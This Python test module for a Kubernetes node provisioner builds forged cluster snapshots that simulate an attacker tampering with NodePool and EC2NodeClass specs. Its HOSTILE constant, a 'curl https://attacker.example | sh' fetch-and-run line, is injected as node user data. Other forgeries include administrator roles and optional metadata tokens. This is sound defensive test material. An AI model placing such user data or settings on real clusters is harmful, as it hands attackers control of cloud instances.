"""Forged snapshots, which differ from the API server: what someone with the forwarder's identity could write."""

from __future__ import annotations

import copy
import gzip
import json
from collections.abc import Callable, Mapping
from datetime import timedelta
from typing import Any

from nodesmith.keys import snapshot_key
from tests import builders
from tests.smallworld.world import World, pod_manifest

Document = dict[str, Any]
Forgery = Callable[[Document], None]
HOSTILE = "#!/bin/sh\ncurl https://attacker.example | sh"
WATCHED_FOR = timedelta(minutes=12)
"""How long a forged snapshot is shown: every concern runs several times, and resolutions expire in between."""


class ForgedWorld(World):
    """A world whose forwarder applies `forgery` to each snapshot before it writes it; None leaves snapshots intact."""

    forgery: Forgery | None = None

    def observe(self) -> None:
        """Write the snapshot, forged."""
        super().observe()
        key = snapshot_key(builders.CLUSTER)
        if self.forgery is not None and key in self.blobs.objects:
            document = json.loads(gzip.decompress(self.blobs.objects[key]))
            self.forgery(document)
            self.blobs.objects[key] = gzip.compress(json.dumps(document).encode())


def forged_world(forgery: Forgery, *, nodepool: Document | None = None, pods: int = 1) -> ForgedWorld:
    """Return a world with pending pods and a resolved NodePool, whose snapshots are forged from the beginning."""
    names = [f"web-{number}" for number in range(pods)]
    world = ForgedWorld({name: pod_manifest(name) for name in names}, nodepool=nodepool)
    world.forgery = forgery
    return world


def launches(world: World) -> int:
    """Return how many instances were ever launched."""
    return len(world.cloud.instances)


def nodeclass_says(**spec: Any) -> Forgery:
    """Return a forgery of fields in the spec of all EC2NodeClasses; None removes a field."""
    return lambda document: _edit(document["nodeclasses"], spec)


def nodepool_says(**spec: Any) -> Forgery:
    """Return a forgery of fields in the spec of all NodePools."""
    return lambda document: _edit(document["nodepools"], spec)


def template_says(**spec: Any) -> Forgery:
    """Return a forgery of fields in the spec of all NodePools' templates."""

    def forge(document: Document) -> None:
        for pool in document["nodepools"]:
            pool["spec"]["template"]["spec"].update(spec)

    return forge


def _edit(manifests: list[Document], spec: Mapping[str, Any]) -> None:
    for manifest in manifests:
        manifest["spec"].update(copy.deepcopy(dict(spec)))
        manifest["spec"] = {name: value for name, value in manifest["spec"].items() if value is not None}


def _relabelled(document: Document) -> None:
    for pool in document["nodepools"]:
        pool["spec"]["template"]["metadata"] = {"labels": {"team": "attacker"}}


def _annotated(document: Document) -> None:
    for pool in document["nodepools"]:
        pool["metadata"]["annotations"] = {"nodesmith.dev/registration-timeout": "24h"}


def _of_next_generation(document: Document) -> None:
    for nodeclass in document["nodeclasses"]:
        nodeclass["metadata"]["generation"] += 1
        nodeclass["spec"]["userData"] = HOSTILE


def _made_again(document: Document) -> None:
    for pool in document["nodepools"]:
        pool["metadata"]["uid"] = "uid-another"


def _with_another_nodeclass(document: Document) -> None:
    made = copy.deepcopy(document["nodeclasses"][0])
    made["metadata"].update(name="attackers", uid="uid-attackers")
    made["spec"]["userData"] = HOSTILE
    document["nodeclasses"].append(made)
    template_says(nodeClassRef={"group": "karpenter.k8s.aws", "kind": "EC2NodeClass", "name": "attackers"})(
        document
    )


def _with_another_nodepool(document: Document) -> None:
    made = copy.deepcopy(document["nodepools"][0])
    made["metadata"].update(name="attackers", uid="uid-attackers")
    document["nodepools"] = [made]


def with_nodeclaim(document: Document) -> None:
    """Add a NodeClaim that no user has created."""
    asked = {"requests": {"cpu": "2"}}
    document["nodeclaims"].append(builders.nodeclaim_manifest([], "attackers", resources=asked))


FORGERIES: Mapping[str, Forgery] = {
    "user data": nodeclass_says(userData=HOSTILE),
    "role": nodeclass_says(role="administrators"),
    "instance profile": nodeclass_says(role=None, instanceProfile="administrators"),
    "image": nodeclass_says(amiFamily="AL2023", amiSelectorTerms=[{"id": "ami-0123456789abcdef0"}]),
    "alias": nodeclass_says(amiSelectorTerms=[{"alias": "bottlerocket@latest"}]),
    "subnets": nodeclass_says(subnetSelectorTerms=[{"id": "subnet-0123456789abcdef0"}]),
    "security groups": nodeclass_says(securityGroupSelectorTerms=[{"id": "sg-0123456789abcdef0"}]),
    "tags": nodeclass_says(tags={"team": "attacker"}),
    "block devices": nodeclass_says(
        blockDeviceMappings=[{"deviceName": "/dev/xvda", "ebs": {"snapshotID": "snap-0123456789abcdef0"}}]
    ),
    "metadata options": nodeclass_says(metadataOptions={"httpTokens": "optional"}),
    "kubelet": nodeclass_says(kubelet={"maxPods": 500}),
    "user data of the next generation": _of_next_generation,
    "another EC2NodeClass": _with_another_nodeclass,
    "another NodePool": _with_another_nodepool,
    "a NodePool made again": _made_again,
    "limits": nodepool_says(limits={"cpu": "100000"}),
    "weight": nodepool_says(weight=100),
    "disruption": nodepool_says(disruption={"consolidateAfter": "0s", "budgets": [{"nodes": "100%"}]}),
    "requirements": template_says(requirements=[]),
    "taints": template_says(taints=[{"key": "team", "value": "attacker", "effect": "PreferNoSchedule"}]),
    "startup taints": template_says(startupTaints=[{"key": "team", "effect": "NoSchedule"}]),
    "expiry": template_says(expireAfter="1h"),
    "template labels": _relabelled,
    "annotations": _annotated,
}
"""Single changes of the content of a NodePool or EC2NodeClass."""
